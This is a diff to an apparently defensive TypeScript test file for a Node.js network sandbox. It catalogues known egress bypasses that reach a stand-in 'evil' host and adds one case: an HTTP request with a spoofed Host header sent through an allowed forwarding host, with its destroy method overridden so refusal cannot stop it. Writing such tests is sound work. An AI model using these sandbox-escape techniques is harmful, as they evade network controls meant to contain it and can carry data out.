@@ -1,17 +1,18 @@
 import { AsyncLocalStorage } from 'node:async_hooks';
 import { EventEmitter, once } from 'node:events';
+import http from 'node:http';
 import http2 from 'node:http2';
 import net from 'node:net';
 import tls from 'node:tls';
 import { type Attack, family, type Scene } from '../attack.ts';
-import { connected, session, text } from '../outcome.ts';
+import { answered, connected, session, text } from '../outcome.ts';
 
 /** From before there was a call. */
 const snapshot = AsyncLocalStorage.snapshot();
 
 /**
- * What nothing inside a process holds, by design: each of these reaches the attacker under the leash too. A row that does
- * so no longer is good news, and moves to the others.
+ * What is not held: each of these reaches the attacker under the leash too. A row that does so no longer is good news, and
+ * moves to the others.
  */
 export const gaps: readonly Attack[] = family(
   'not held',
@@ -22,6 +23,7 @@ export const gaps: readonly Attack[] = family(
     ['a connect that was taken before', 'reaches', ({ early, evil }) => connected(Reflect.apply(early.connect, new net.Socket(), [evil.port, '127.0.0.1']))],
     ['a socket that was connected before', 'reaches', saidBefore],
     ['an HTTP/2 session that was open before', 'reaches', askedBefore],
+    ['a request whose destroy it has replaced, to the allowed host that passes on', 'reaches', undying],
     ['another :authority to the allowed host that passes on', 'reaches', ({ evil, good }) => session(http2.connect(good.http), { ':authority': evil.authority }), { raw: true }],
     ['another server name in a connection to the allowed host that passes on', 'reaches', ({ evil, good }) => connected(tls.connect({ socket: net.connect(good.port, good.host), servername: evil.host }), 'secureConnect'), { raw: true }],
     ['words of its own to the allowed host that passes on', 'reaches', spoken, { raw: true }],
@@ -53,6 +55,12 @@ async function askedBefore({ evil, outside }: Scene): Promise<void> {
     return open;
   });
   await session(client);
+}
+
+/** What is refused after it was made is destroyed. */
+function undying({ good, evil }: Scene): Promise<string> {
+  const request = http.request(good.http).setHeader('host', evil.authority);
+  return answered(Object.assign(request, { destroy: () => request }));
 }
 
 /** A request that no client of HTTP has made. */
